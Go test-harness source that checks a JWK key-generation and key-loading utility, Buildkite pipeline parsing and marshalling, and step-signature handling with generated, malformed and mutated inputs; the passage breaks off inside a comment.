			_, errKey := jws.Verify(sig, jws.WithKey(v.alg, v.pub), jws.WithDetachedPayload(payload))
			c.Eval(1)
			c.Feature("cross", i, j)
			if i == j {
				if errSet != nil || errKey != nil {
					c.Violation(fmt.Sprintf("cross/%d-%d", i, j), map[string]any{"what": fmt.Sprintf("%s signature does not verify with its own public half: set=%v key=%v", s.alg, errSet, errKey)})
				}
				c.Count("cross_verify_diagonal", 1)
			} else {
				if errSet == nil || errKey == nil {
					c.Violation(fmt.Sprintf("cross/%d-%d", i, j), map[string]any{"what": fmt.Sprintf("%s signature (kid %s) verifies under another generated key (%s kid %s)", s.alg, s.kid, v.alg, v.kid)})
				}
				c.Count("cross_verify_off_diagonal", 1)
			}
		}
	}

	// Pairs generated by many goroutines at once (an agent pool generating keys in parallel): every pair is its own
	// key - no two pairs share key material, and what one signs verifies under its own public half only.
	c.Phase("concurrent-generation", func() {
		var mu sync.Mutex
		seen := map[string]string{} // public thumbprint -> who generated it
		c.Parallel("congen", c.N(96, 640), func(i int, r *mrand.Rand) {
			id := run.CaseID("congen", i)
			type one struct {
				alg       jwa.SignatureAlgorithm
				priv, pub jwk.Key
			}
			var mine []one
			for k := 0; k < 50; k++ {
				alg := jwa.EdDSA
				if k%25 == 24 {
					alg = jwa.ES512
				}
				privSet, pubSet, err := jwkutil.NewKeyPair(fmt.Sprintf("con-%d-%d", i, k), alg)
				if err != nil {
					c.Violation(id, map[string]any{"what": "NewKeyPair failed under concurrent use: " + err.Error()})
					return
				}
				priv, _ := privSet.Key(0)
				pub, _ := pubSet.Key(0)
				c.Eval(1)
				if err := jwkutil.Validate(priv); err != nil {
					c.Violation(id, map[string]any{"what": "a key generated under concurrent use does not validate: " + err.Error()})
					return
				}
				who := fmt.Sprintf("%s pair %d of batch %d", alg, k, i)
				t := c18Thumb(pub)
				if tp := c18Thumb(priv); tp != t {
					c.Violation(id, map[string]any{"what": "the two halves of a generated pair are not the same key (" + who + ")"})
					return
				}
				mu.Lock()
				prev, dup := seen[t]
				seen[t] = who
				mu.Unlock()
				if dup {
					c.Violation(id, map[string]any{"what": "two generated key pairs are the same key: what one signs verifies under the other (" + prev + " and " + who + ")", "public_thumbprint_sha256": t})
					return
				}
				mine = append(mine, one{alg, priv, pub})
			}
			// own half verifies, the neighbour's does not
			for k := 0; k+1 < len(mine); k += 7 {
				sig, err := jws.Sign(nil, jws.WithKey(mine[k].alg, mine[k].priv), jws.WithDetachedPayload(payload), jws.WithCompact())
				if err != nil {
					c.Violation(id, map[string]any{"what": "signing with a generated private key failed: " + err.Error()})
					return
				}
				_, errOwn := jws.Verify(sig, jws.WithKey(mine[k].alg, mine[k].pub), jws.WithDetachedPayload(payload))
				_, errNext := jws.Verify(sig, jws.WithKey(mine[k+1].alg, mine[k+1].pub), jws.WithDetachedPayload(payload))
				if errOwn != nil || errNext == nil {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("generated under concurrent use: own public half: %v; next generated key: %v (want nil / an error)", errOwn, errNext)})
					return
				}
				c.Count("concurrent_generation_cross_checks", 1)
			}
			c.Count("pairs_generated_concurrently", len(mine))
		})
		c.Count("distinct_keys_generated_concurrently", len(seen))
	})

	// ---- Phase 3: LoadKey over small key-set files.
	scratch := os.Getenv("GPV_SCRATCH")
	if scratch == "" {
		scratch, err = os.MkdirTemp("", "gpv-c18")
		must(c, err)
		defer os.RemoveAll(scratch)
	}
	type member struct {
		key   jwk.Key
		kid   string
		valid bool
	}
	mkMember := func(r *mrand.Rand, kid string, how int) member {
		var raw any
		var alg any
		valid := true
		switch how {
		case 0:
			_, p, _ := ed25519.GenerateKey(rand.Reader)
			raw, alg = p, jwa.EdDSA
		case 1:
			k, _ := ecdsa.GenerateKey(elliptic.P521(), rand.Reader)
			raw, alg = k, jwa.ES512
		case 2:
			raw, alg = rsaKey, jwa.PS512
		case 3: // invalid pair
			raw, alg, valid = rsaKey, jwa.RS256, false
		case 4:
			b := make([]byte, 32)
			_, _ = rand.Read(b)
			raw, alg, valid = b, jwa.HS512, false
		case 5: // no algorithm
			_, p, _ := ed25519.GenerateKey(rand.Reader)
			raw, alg, valid = p, nil, false
		case 7, 8, 9:
			// an approved pair whose key material is present but malformed (a coordinate one byte short, an empty
			// member): it parses, and only the structural check of key validation refuses it
			var base any
			var a jwa.SignatureAlgorithm
			var field, value string
			switch how {
			case 7:
				kk, _ := ecdsa.GenerateKey(elliptic.P521(), rand.Reader)
				base, a, field = kk, jwa.ES512, []string{"x", "y", "d"}[r.IntN(3)]
				value = base64.RawURLEncoding.EncodeToString(make([]byte, 65))
			case 8:
				_, pk, _ := ed25519.GenerateKey(rand.Reader)
				base, a, field, value = pk, jwa.EdDSA, []string{"x", "d"}[r.IntN(2)], ""
			default:
				base, a, field, value = rsaKey, jwa.PS512, []string{"n", "d"}[r.IntN(2)], ""
			}
			good, err := jwk.FromRaw(base)
			must(c, err)
			_ = good.Set(jwk.AlgorithmKey, a)
			if kid != "" {
				_ = good.Set(jwk.KeyIDKey, kid)
			}
			jb, err := json.Marshal(good)
			must(c, err)
			var fields map[string]any
			must(c, json.Unmarshal(jb, &fields))
			fields[field] = value
			jb, _ = json.Marshal(fields)
			if bad, err := jwk.ParseKey(jb); err == nil {
				c.Count("members_with_malformed_key_material", 1)
				return member{bad, kid, false}
			}
			// the JOSE library refused to parse it: fall back to an ordinary invalid pair
			raw, alg, valid = rsaKey, jwa.RS256, false
		default: // EC key with EdDSA
			k, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
			raw, alg, valid = k, jwa.EdDSA, false
		}
		k, err := jwk.FromRaw(raw)
		must(c, err)
		if alg != nil {
			_ = k.Set(jwk.AlgorithmKey, alg)
		}
		if kid != "" {
			_ = k.Set(jwk.KeyIDKey, kid)
		}
		switch r.IntN(6) { // the intended-use member is not part of key selection or validation
		case 0:
			_ = k.Set(jwk.KeyUsageKey, "enc")
		case 1:
			_ = k.Set(jwk.KeyUsageKey, "sig")
		}
		return member{k, kid, valid}
	}
	nfiles := c.N(120, 1500)
	r := c.RNG("loadkey")
	for f := 0; f < nfiles; f++ {
		nk := r.IntN(5)
		var members []member
		kidPool := []string{"alpha", "beta", "gamma", "", "alpha", "Alpha", "BETA"} // key ids are case-sensitive
		for i := 0; i < nk; i++ {
			how := r.IntN(3)
			if r.IntN(4) == 0 {
				how = 3 + r.IntN(7)
			}
			members = append(members, mkMember(r, kidPool[r.IntN(len(kidPool))], how))
		}
		set := jwk.NewSet()
		for _, m := range members {
			if err := set.AddKey(m.key); err != nil {
				must(c, err)
			}
		}
		b, err := json.Marshal(set)
		must(c, err)
		path := filepath.Join(scratch, fmt.Sprintf("set-%d.json", f))
		must(c, os.WriteFile(path, b, 0o600))
		requests := []string{"", "alpha", "beta", "gamma", "absent", "Alpha", "BETA", "Gamma", "alph"}
		for _, m := range members {
			// a key is found by the id it carries, not by anything derived from its material (thumbprint of a member)
			if tp, err := m.key.Thumbprint(crypto.SHA256); err == nil {
				requests = append(requests, base64.RawURLEncoding.EncodeToString(tp), base64.StdEncoding.EncodeToString(tp), fmt.Sprintf("%x", tp))
			}
		}
		for _, req := range requests {
			id := fmt.Sprintf("load/%d/%s", f, req)
			var got jwk.Key
			var lerr error
			if pi := run.Guard(func() { got, lerr = jwkutil.LoadKey(path, req) }); pi != nil {
				c.Violation(id, map[string]any{"what": "LoadKey panicked: " + pi.Value, "stack": pi.Stack})
				continue
			}
			c.Eval(1)
			// Expected candidates.
			var cands []member
			if req == "" {
				if len(members) == 1 {
					cands = members
				}
			} else {
				for _, m := range members {
					if m.kid == req {
						cands = append(cands, m)
					}
				}
			}
			kids := make([]string, len(members))
			for i, m := range members {
				kids[i] = fmt.Sprintf("%s:%v", m.kid, m.valid)
			}
			desc := map[string]any{"members(kid:valid)": kids, "requested": req}
			c.Feature("load", nk, req, len(cands))
			switch {
			case len(cands) == 0:
				c.Count("loadkey_expected_failure_absent_or_ambiguous", 1)
				if lerr == nil {
					desc["what"] = "LoadKey succeeded although no key matches (absent id, or no id with a set that is not a singleton)"
					c.Violation(id, desc)
				}
			case len(cands) == 1:
				if cands[0].valid {
					c.Count("loadkey_expected_success", 1)
					if lerr != nil {
						desc["what"] = "LoadKey failed for a uniquely identified valid key: " + lerr.Error()
						c.Violation(id, desc)
					} else if c18Thumb(got) != c18Thumb(cands[0].key) {
						desc["what"] = "LoadKey returned a different key than the one identified"
						c.Violation(id, desc)
					}
				} else {
					c.Count("loadkey_expected_failure_invalid", 1)
					if lerr == nil {
						desc["what"] = "LoadKey returned a key that key validation must reject"
						c.Violation(id, desc)
					}
				}
			default:
				// Several members share the requested id: whichever is
				// returned must carry that id and be valid.
				c.Count("loadkey_duplicate_kid", 1)
				if lerr == nil {
					ok := false
					for _, m := range cands {
						if c18Thumb(m.key) == c18Thumb(got) && m.valid {
							ok = true
						}
					}
					if !ok {
						desc["what"] = "LoadKey with a duplicated id returned a key that is not a valid member with that id"
						c.Violation(id, desc)
					}
				}
			}
		}
		_ = os.Remove(path)
	}
	// large key-set files: hundreds of members (100 KiB and more), a single key carrying a long private member, a
	// file padded with white space - the requested id is found wherever it sits, the only key of a long file loads
	for f, nk := range []int{64, 400, 700, 1500}[:c.N(3, 4)] {
		var members []member
		set := jwk.NewSet()
		for i := 0; i < nk; i++ {
			m := mkMember(r, fmt.Sprintf("big-%d", i), 0)
			members = append(members, m)
			must(c, set.AddKey(m.key))
		}
		b, err := json.Marshal(set)
		must(c, err)
		if f%2 == 1 {
			b, err = json.MarshalIndent(set, "", "    ")
			must(c, err)
		}
		path := filepath.Join(scratch, fmt.Sprintf("bigset-%d.json", nk))
		must(c, os.WriteFile(path, b, 0o600))
		c.Max("largest_key_set_file_bytes", int64(len(b)))
		for _, pick := range []int{0, 1, nk / 2, nk - 2, nk - 1, -1} {
			req := "big-absent"
			if pick >= 0 {
				req = members[pick].kid
			}
			id := fmt.Sprintf("load-big/%d/%s", nk, req)
			var got jwk.Key
			var lerr error
			if pi := run.Guard(func() { got, lerr = jwkutil.LoadKey(path, req) }); pi != nil {
				c.Violation(id, map[string]any{"what": "LoadKey panicked: " + pi.Value, "stack": pi.Stack})
				continue
			}
			c.Eval(1)
			c.Feature("load-big", nk, pick)
			switch {
			case pick < 0 && lerr == nil:
				c.Violation(id, map[string]any{"what": fmt.Sprintf("LoadKey found an id that none of the %d members carries", nk)})
			case pick >= 0 && lerr != nil:
				c.Violation(id, map[string]any{"what": fmt.Sprintf("LoadKey failed for a uniquely identified valid key (member %d of %d, file of %d bytes): %v", pick+1, nk, len(b), lerr)})
			case pick >= 0 && c18Thumb(got) != c18Thumb(members[pick].key):
				c.Violation(id, map[string]any{"what": fmt.Sprintf("LoadKey returned a different key than member %d of %d", pick+1, nk)})
			default:
				c.Count("loadkey_large_files_checked", 1)
			}
		}
		_ = os.Remove(path)
	}
	for f, pad := range []int{1000, 65000, 66000, 70000, 300000} {
		m := mkMember(r, "only", f%3)
		set := jwk.NewSet()
		must(c, set.AddKey(m.key))
		b, err := json.Marshal(set)
		must(c, err)
		var text string
		if f%2 == 0 {
			// a long private member inside the key
			text = strings.Replace(string(b), `{"keys":[{`, `{"keys":[{"x-note":"`+strings.Repeat("n", pad)+`",`, 1)
		} else {
			text = string(b) + strings.Repeat(" \n", pad/2)
		}
		path := filepath.Join(scratch, fmt.Sprintf("padded-%d.json", pad))
		must(c, os.WriteFile(path, []byte(text), 0o600))
		c.Max("largest_key_set_file_bytes", int64(len(text)))
		for _, req := range []string{"", "only", "other"} {
			id := fmt.Sprintf("load-padded/%d/%s", pad, req)
			var got jwk.Key
			var lerr error
			if pi := run.Guard(func() { got, lerr = jwkutil.LoadKey(path, req) }); pi != nil {
				c.Violation(id, map[string]any{"what": "LoadKey panicked: " + pi.Value, "stack": pi.Stack})
				continue
			}
			c.Eval(1)
			c.Feature("load-padded", pad, req)
			switch {
			case req == "other" && lerr == nil:
				c.Violation(id, map[string]any{"what": "LoadKey found an id the only member does not carry"})
			case req != "other" && lerr != nil:
				c.Violation(id, map[string]any{"what": fmt.Sprintf("LoadKey failed for the only (valid) key of a file of %d bytes: %v", len(text), lerr)})
			case req != "other" && c18Thumb(got) != c18Thumb(m.key):
				c.Violation(id, map[string]any{"what": "LoadKey returned a different key than the only member"})
			default:
				c.Count("loadkey_large_files_checked", 1)
			}
		}
		_ = os.Remove(path)
	}
	// malformed inputs
	bad := map[string]func() string{
		"missing-file": func() string { return filepath.Join(scratch, "does-not-exist.json") },
		"directory":    func() string { return scratch },
		"malformed-json": func() string {
			p := filepath.Join(scratch, "bad.json")
			_ = os.WriteFile(p, []byte(`{"keys": [ {"kty": "RSA", `), 0o600)
			return p
		},
		"empty-file": func() string {
			p := filepath.Join(scratch, "empty.json")
			_ = os.WriteFile(p, nil, 0o600)
			return p
		},
		"not-a-jwks": func() string {
			p := filepath.Join(scratch, "notjwks.json")
			_ = os.WriteFile(p, []byte(`{"hello": "world"}`), 0o600)
			return p
		},
	}
	// a set of two entries, one good key and one entry that is no decodable key: with no id requested there is no
	// "only key" (asked for by id, the property leaves it open whether the good key may still be handed out)
	if goodSet, _, err := jwkutil.NewKeyPair("alpha", jwa.EdDSA); err == nil {
		gk, _ := goodSet.Key(0)
		gb, _ := json.Marshal(gk)
		for bi, sibling := range []string{`{"kty":"EC","crv":"P-521","x":"AA"}`, `{"kty":"AKP","kid":"beta"}`, `null`, `{"kty":"OKP","crv":"Ed25519","x":"!!!not-base64url"}`, `{"kty":"RSA","kid":17,"n":"AQAB","e":"AQAB"}`} {
			for order := 0; order < 2; order++ {
				body := `{"keys":[` + string(gb) + `,` + sibling + `]}`
				if order == 1 {
					body = `{"keys":[` + sibling + `,` + string(gb) + `]}`
				}
				name := fmt.Sprintf("good-key-next-to-undecodable-entry-%d-%d", bi, order)
				path := filepath.Join(scratch, name+".json")
				must(c, os.WriteFile(path, []byte(body), 0o600))
				var lerr error
				var k jwk.Key
				if pi := run.Guard(func() { k, lerr = jwkutil.LoadKey(path, "") }); pi != nil {
					c.Violation("bad/"+name, map[string]any{"what": "LoadKey panicked: " + pi.Value, "stack": pi.Stack})
					continue
				}
				c.Eval(1)
				if lerr == nil {
					c.Violation("bad/"+name, map[string]any{"what": fmt.Sprintf("a key-set file with two entries (one good key, one entry that is not a decodable key) and no requested id: LoadKey returned key %q as if it were the only key", k.KeyID()), "file": body})
				}
				c.Count("loadkey_two_entries_one_undecodable", 1)
				_ = os.Remove(path)
			}
		}
	}
	names := make([]string, 0, len(bad))
	for n := range bad {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		p := bad[n]()
		for _, req := range []string{"", "alpha"} {
			var lerr error
			var k jwk.Key
			if pi := run.Guard(func() { k, lerr = jwkutil.LoadKey(p, req) }); pi != nil {
				c.Violation("bad/"+n, map[string]any{"what": "LoadKey panicked: " + pi.Value, "stack": pi.Stack})
				continue
			}
			c.Eval(1)
			c.Feature("bad", n, req)
			if lerr == nil {
				c.Violation("bad/"+n, map[string]any{"what": fmt.Sprintf("LoadKey(%s, %q) succeeded with key %v", n, req, k)})
			}
			c.Count("loadkey_malformed_inputs", 1)
		}
	}
	c.Finish("exploration",
		"phase 1 enumerates the whole table {RSA, EC P-256/384/521, OKP Ed25519} x {private, public} + oct x {every signature algorithm the JOSE library registers (as object and as string), every key-encryption and content-encryption algorithm, unknown/empty/case-variant names, missing algorithm} and structurally invalid keys; phase 2 validates both halves of freshly generated pairs for the three algorithms and checks the n x n sign/verify matrix (diagonal only; kids repeat across pairs); phase 3 loads random key-set files of 0-4 keys (valid and invalid members, unique/duplicate/missing kids) with every requested id, plus malformed inputs. distinct_nontrivial counts distinct table cells, cross pairs and (set size, request, candidates) classes",
		map[string]any{"exhaustive": true, "exhaustive_note": "the (key type, half, algorithm) table of phase 1 is enumerated completely; phases 2 and 3 are samples"},
		[]string{"for duplicated key ids the property does not say which member wins; only that the result carries the id and validates", "EC curve is not part of the allow-list (EC P-256 + ES512 is accepted by the pair rule)"})
}

func must(c *run.Ctx, err error) {
	if err != nil {
		fmt.Fprintf(os.Stderr, "INFRA: %v\n", err)
		os.Exit(3)
	}
}

// c18Stripped removes one required member at a time from the JSON form of
// valid keys; parsing or validation must then fail.
func c18Stripped(c *run.Ctx, rsaKey *rsa.PrivateKey, ec *ecdsa.PrivateKey, ed ed25519.PrivateKey) {
	for _, it := range []struct {
		name     string
		raw      any
		alg      jwa.SignatureAlgorithm
		required []string
	}{
		{"RSA", &rsaKey.PublicKey, jwa.PS512, []string{"n", "e", "kty"}},
		{"EC", &ec.PublicKey, jwa.ES512, []string{"x", "y", "crv", "kty"}},
		{"OKP", ed.Public(), jwa.EdDSA, []string{"x", "crv", "kty"}},
	} {
		k, err := jwk.FromRaw(it.raw)
		must(c, err)
		_ = k.Set(jwk.AlgorithmKey, it.alg)
		b, _ := json.Marshal(k)
		for _, member := range it.required {
			var m map[string]any
			_ = json.Unmarshal(b, &m)
			delete(m, member)
			sb, _ := json.Marshal(m)
			id := "stripped/" + it.name + "/" + member
			pk, err := jwk.ParseKey(sb)
			c.Eval(1)
			c.Feature("stripped", it.name, member)
			c.Count("stripped_member_keys", 1)
			if err != nil {
				continue // cannot even be parsed: fine
			}
			if verr := jwkutil.Validate(pk); verr == nil {
				c.Violation(id, map[string]any{"what": "key without required member " + member + " validates", "json": strings.TrimSpace(string(sb))})
			}
		}
	}
}
