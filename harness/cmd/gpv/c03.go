package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"

	"github.com/buildkite/go-pipeline/warning"

	"verif/doc"
	"verif/gen"
	"verif/refmodel"
	"verif/run"
)

func init() { register("C03", checkC03) }

func c03Opts(i int, r *rand.Rand) gen.PipeOpts {
	o := gen.PipeOpts{
		Str:        gen.StringOpts{Tricky: true, Interp: true, LeadingWS: mix(i, 1, 7) == 0},
		Unknown:    mix(i, 2, 3) != 0,
		Signature:  true,
		Sharing:    mix(i, 3, 4) == 1,
		TrickyKeys: mix(i, 4, 5) == 0,
		BigMaps:    mix(i, 5, 11) == 0,
	}.NoSweep()
	// feature sweeps: small exhaustive sub-products embedded in random documents
	switch i % 6 {
	case 0:
		o.SweepKeyAliases = i / 6
	case 1:
		o.SweepCmdForms = i / 6
	case 2:
		o.SweepPlugins = i / 6
	case 3:
		o.SweepMatrix = i / 6
	case 4:
		o.SweepCache = i / 6
	}
	return o
}

// c03CheckText runs the C03 oracle on one document text whose plain tree is
// known. It returns "" when the property holds on it. yamlSkipped reports
// that the YAML leg fell under the exclusion predicate.
func c03CheckText(text string, plain *doc.Node, legs string) (what string, extra map[string]any, st *refmodel.Stats, yamlSkipped bool) {
	want, st := refmodel.Normalise(plain)
	hasUnknown := st.Kinds["unknown"]+st.Kinds["scalar-unknown"] > 0
	extra = map[string]any{"expected_normal_form": clip(want.String(), 6000)}
	p, perr := parseText(text)
	if perr != nil && !warning.Is(perr) {
		return "well-formed document rejected: " + perr.Error(), extra, st, false
	}
	if perr != nil && !hasUnknown {
		return "warning on a document without unknown steps: " + perr.Error(), extra, st, false
	}
	if perr == nil && hasUnknown {
		return "no warning although the document has unknown steps", extra, st, false
	}
	jb, jn, err := marshalJSONTree(p)
	if err != nil {
		extra["json"] = clip(string(jb), 2000)
		return err.Error(), extra, st, false
	}
	refmodel.CanonCacheDisabled(jn)
	if legs != "yaml" {
		if diff := doc.Equal(want, jn, doc.Loose); diff != "" {
			extra["json"] = clip(string(jb), 4000)
			return "JSON marshalling differs from the normal form: " + diff, extra, st, false
		}
	}
	if legs == "json" {
		return "", nil, st, false
	}
	if leadingWSMultiline(jn) {
		return "", nil, st, true
	}
	yb, yn, err := marshalYAMLTree(p)
	if err != nil {
		extra["yaml"] = clip(string(yb), 2000)
		return err.Error(), extra, st, false
	}
	refmodel.CanonCacheDisabled(yn)
	if diff := doc.Equal(want, yn, doc.Loose); diff != "" {
		extra["yaml"] = clip(string(yb), 4000)
		return "YAML marshalling differs from the normal form: " + diff, extra, st, false
	}
	return "", nil, st, false
}

func c03Witnesses(c *run.Ctx) {
	for _, f := range c.FindingsFor() {
		var w struct {
			Document string `json:"document"`
			Leg      string `json:"leg"`
		}
		if len(f.Witness) == 0 || json.Unmarshal(f.Witness, &w) != nil || w.Document == "" {
			continue
		}
		g, err := doc.FromYAML([]byte(w.Document))
		if err != nil {
			c.Infra("witness %s unreadable: %v", f.ID, err)
			continue
		}
		plain, err := doc.ResolveMerges(g, 0)
		if err != nil {
			c.Infra("witness %s unresolvable: %v", f.ID, err)
			continue
		}
		what, _, _, _ := c03CheckText(w.Document, plain, w.Leg)
		c.Witness(f, what != "", fmt.Sprintf("%q: %s", w.Document, what))
	}
}

func checkC03(c *run.Ctx) {
	c03Witnesses(c)
	n := c.N(8000, 250000)
	c.Parallel("doc", n, func(i int, r *rand.Rand) {
		d, err := gen.Pipeline(r, c03Opts(i, r))
		if err != nil {
			c.Count("generator_errors", 1)
			return
		}
		id := run.CaseID("doc", i)
		rs := renderings(d, r, 2, func(style, why string) { c.Count("renderings_discarded_generator_invalid", 1) })
		var st *refmodel.Stats
		for _, rd := range rs {
			c.Count("renderings_"+rd.Style[:4], 1)
			what, extra, stats, yamlSkipped := c03CheckText(rd.Text, d.Plain, "")
			st = stats
			c.Eval(1)
			if what != "" {
				m := map[string]any{"what": what, "style": rd.Style, "document": clip(rd.Text, 8000)}
				for k, v := range extra {
					m[k] = v
				}
				c.Violation(id, m)
				return
			}
			c.Count("json_legs_compared", 1)
			if yamlSkipped {
				c.Count("yaml_legs_skipped_leading_ws_multiline", 1)
			} else {
				c.Count("yaml_legs_compared", 1)
			}
		}
		want, _ := refmodel.Normalise(d.Plain)
		c.Feature(d.FeatureVector())
		for k, v := range st.Kinds {
			c.Count("steps_"+k, v)
		}
		for k, v := range st.Shorthands {
			c.Count("shorthand_"+k, v)
		}
		c.Count("extras_checked", st.Extras)
		c.Max("max_extra_depth", int64(st.MaxDepth))
		if c.WantSample() && d.NCommand > 0 && len(rs) > 1 {
			c.Sample(map[string]any{"document": clip(rs[len(rs)-1].Text, 1500), "normal_form": clip(want.String(), 1500)})
		}
	})
	// One odd element among good ones: a list-form plugins key with a null or wrongly typed entry in it.
	c.Phase("odd-elements", func() { c03OddElements(c) })
	// Scale: documents of hundreds to 150000 steps (beyond 1 MiB of text from 20000 steps on, about 10 MiB at the top
	// of the thorough tier): nothing is dropped, duplicated or moved however long the document is.
	c.Phase("scale", func() {
		sizes := []int{300, 3000, 20000, 60000, 150000}[:c.N(3, 5)]
		c.Parallel("scale", len(sizes)*2, func(i int, r *rand.Rand) {
			n := sizes[i/2]
			unknownEvery := 0
			if i%2 == 1 {
				unknownEvery = 211
			}
			d := bigStepsDoc(r, n, 24, unknownEvery)
			text := string(doc.ToJSON(d))
			style := "json"
			if (i/2)%2 == 0 {
				if t, err := doc.ToYAML(d, doc.YAMLOpts{}); err == nil {
					text, style = t, "yaml-block"
				}
			}
			what, _, _, _ := c03CheckText(text, d, "")
			c.Eval(1)
			c.Feature("scale", n, style, unknownEvery > 0)
			c.Count("scale_documents", 1)
			c.Max("largest_document_bytes", int64(len(text)))
			if what != "" {
				c.Violation(run.CaseID("scale", i), map[string]any{"what": fmt.Sprintf("document of %d steps (%d bytes, %s): %s", n, len(text), style, what), "document_head": clip(text, 600)})
			}
		})
	})
	c.Finish("exploration",
		"grammar-generated pipeline documents (every step kind and shorthand; feature sweeps enumerating all 32 key/id/identifier/label/name subsets, all command/commands form pairs, all plugin, matrix and cache forms; arbitrary extras with every YAML scalar kind; tricky strings; aliases and `<<` merges from templates), each rendered as JSON and in two random YAML styles (self-checked), parsed, marshalled to JSON and YAML, read back with independent readers and compared with an independently implemented normaliser. distinct_nontrivial counts distinct feature vectors (set of grammar features a document used)",
		nil,
		[]string{"comparison: numbers by value, timestamps equal to their RFC 3339 string, omitempty container fields absent = null = empty, Go-map-backed levels unordered", "YAML leg skipped for data containing multi-line strings that begin with whitespace (yaml.v3 emitter defect, as in C02/C09)", "excluded input classes: non-finite floats (K3), the key `<<` (K4), falsy skip values (K1); when both command and commands are present, commands wins (model follows the code)"})
	_ = fmt.Sprint
}

// c03OddElements: command steps (compact JSON) whose plugins list holds one null or wrongly typed entry among
// good ones. Nothing may be lost: either the step is kept as written (an unknown step), or its plugins list
// comes back with one entry per entry written.
func c03OddElements(c *run.Ctx) {
	odd := []string{`null`, `42`, `[]`, `true`, `["x#v1"]`}
	good := []string{`{"docker#v1":{"image":"x"}}`, `"cache#v2"`, `{"ecr#v3":null}`, `{"secrets#v1":{"a":1,"b":[1,2]}}`}
	n := c.N(400, 6000)
	c.Parallel("odd", n, func(i int, r *rand.Rand) {
		k := 1 + r.IntN(5)
		at := r.IntN(k)
		list := ""
		for j := 0; j < k; j++ {
			if j > 0 {
				list += ","
			}
			if j == at {
				list += odd[i%len(odd)]
			} else {
				list += good[r.IntN(len(good))]
			}
		}
		step := `{"command":"echo hi","plugins":[` + list + `],"label":"l"}`
		text := `{"steps":[` + step + `]}`
		id := run.CaseID("odd", i)
		p, perr := parseText(text)
		c.Eval(1)
		if perr != nil && !warning.Is(perr) {
			c.Count("odd_element_documents_rejected", 1)
			return
		}
		if p == nil || len(p.Steps) != 1 {
			c.Violation(id, map[string]any{"what": "a document with one step did not yield one step", "document": text})
			return
		}
		jb, err := safeJSONMarshal(p.Steps[0])
		if err != nil {
			c.Violation(id, map[string]any{"what": "step does not marshal: " + err.Error(), "document": text})
			return
		}
		if string(jb) == step {
			c.Count("odd_element_steps_kept_as_written", 1)
			c.Feature("odd", i%len(odd), k, at)
			return
		}
		var got struct {
			Plugins []any `json:"plugins"`
		}
		if err := json.Unmarshal(jb, &got); err != nil || len(got.Plugins) != k {
			c.Violation(id, map[string]any{"what": fmt.Sprintf("a plugins list of %d entries (entry %d is %s) came back with %d entries and not as written: data lost", k, at, odd[i%len(odd)], len(got.Plugins)), "document": text, "json": string(jb)})
			return
		}
		c.Count("odd_element_steps_normalised_with_every_entry", 1)
	})
}
