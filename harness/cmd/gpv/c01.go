package main

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"sort"
	"strings"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/signature"
	"github.com/lestrrat-go/jwx/v2/jwk"

	"verif/doc"
	"verif/gen"
	"verif/keys"
	"verif/refmodel"
	"verif/run"
	"verif/util"
)

func init() { register("C01", checkC01) }

// signCase is one signing situation.
type signCase struct {
	Step *pipeline.CommandStep
	Penv map[string]string
	Repo string
	Text string // the document the step was parsed from
}

var signOpts = gen.PipeOpts{Str: gen.StringOpts{Tricky: true, Interp: true}, NoTime: true, SmallInts: true}.NoSweep()

// genSignCase builds a command step through the grammar generator and Parse.
func genSignCase(r *rand.Rand, forceMatrix, forcePlugins bool) (*signCase, error) {
	o := signOpts
	if forceMatrix {
		o.SweepMatrix = 3 + r.IntN(7)
	}
	if forcePlugins {
		o.SweepPlugins = []int{0, 1, 2, 3, 6}[r.IntN(5)]
	}
	st, _, err := gen.CommandStepDoc(r, o)
	if err != nil {
		return nil, err
	}
	text := string(doc.ToJSON(doc.M(doc.P("steps", doc.L(st)))))
	p, err := parseText(text)
	if err != nil {
		return nil, fmt.Errorf("generated step not parsed cleanly: %v", err)
	}
	cs, ok := p.Steps[0].(*pipeline.CommandStep)
	if !ok {
		return nil, fmt.Errorf("generated step parsed as %T", p.Steps[0])
	}
	sc := &signCase{Step: cs, Text: text, Penv: map[string]string{}}
	// pipeline env: disjoint names, plus overlaps with the step env
	for i, n := 0, r.IntN(4); i < n; i++ {
		v := gen.String(r, gen.StringOpts{Tricky: true})
		if r.IntN(4) == 0 {
			v = "" // a signed variable may well be empty
		}
		sc.Penv[[]string{"PIPE_%d", "env_%d", "node_%d", "v%d", "e%d"}[r.IntN(5)][:0]+fmt.Sprintf([]string{"PIPE_%d", "env_%d", "node_%d", "v%d", "e%d"}[r.IntN(5)], i)] = v
	}
	for k := range cs.Env {
		if r.IntN(3) == 0 {
			sc.Penv[k] = "pipeline-level value"
		}
	}
	sc.Repo = gen.Pick(r, []string{"git@github.com:org/repo.git", "https://github.com/org/repo", "", "file:///tmp/repo", "ssh://git@host/x.git#frag", "https://user:pw@host.example/org/toolkit.git", "acme/digit", "ssh://git@host:2222/org/audit"})
	return sc, nil
}

type c01Mutant struct {
	Kind     string
	Step     *pipeline.CommandStep
	Venv     map[string]string
	Repo     string
	Sig      *pipeline.Signature
	Verifier any
	// AlwaysReject: the mutation alters the signature record or the key
	AlwaysReject bool
	// MustAccept: a positive control
	MustAccept bool
}

func copyEnv(m map[string]string) map[string]string {
	o := make(map[string]string, len(m)+2)
	for k, v := range m {
		o[k] = v
	}
	return o
}

func copySig(s *pipeline.Signature) *pipeline.Signature {
	return &pipeline.Signature{Algorithm: s.Algorithm, SignedFields: append([]string(nil), s.SignedFields...), Value: s.Value}
}

func mutateRune(r *rand.Rand, s string) string {
	rs := []rune(s)
	switch {
	case len(rs) == 0:
		return "x"
	}
	i := r.IntN(len(rs))
	switch r.IntN(3) {
	case 0: // insert
		return string(rs[:i]) + "~" + string(rs[i:])
	case 1: // delete
		return string(rs[:i]) + string(rs[i+1:])
	}
	c := rs[i] + 1
	if c == 0xd800 {
		c = 'a'
	}
	rs[i] = c
	return string(rs)
}

// reducedFielder signs what the real step signs, minus one field.
type reducedFielder struct {
	inner *signature.CommandStepWithInvariants
	omit  string
}

func (r *reducedFielder) SignedFields() (map[string]any, error) {
	m, err := r.inner.SignedFields()
	delete(m, r.omit)
	return m, err
}

func (r *reducedFielder) ValuesForFields(f []string) (map[string]any, error) {
	return r.inner.ValuesForFields(f)
}

// flipCase flips the case of one ASCII letter (chosen from the end backwards
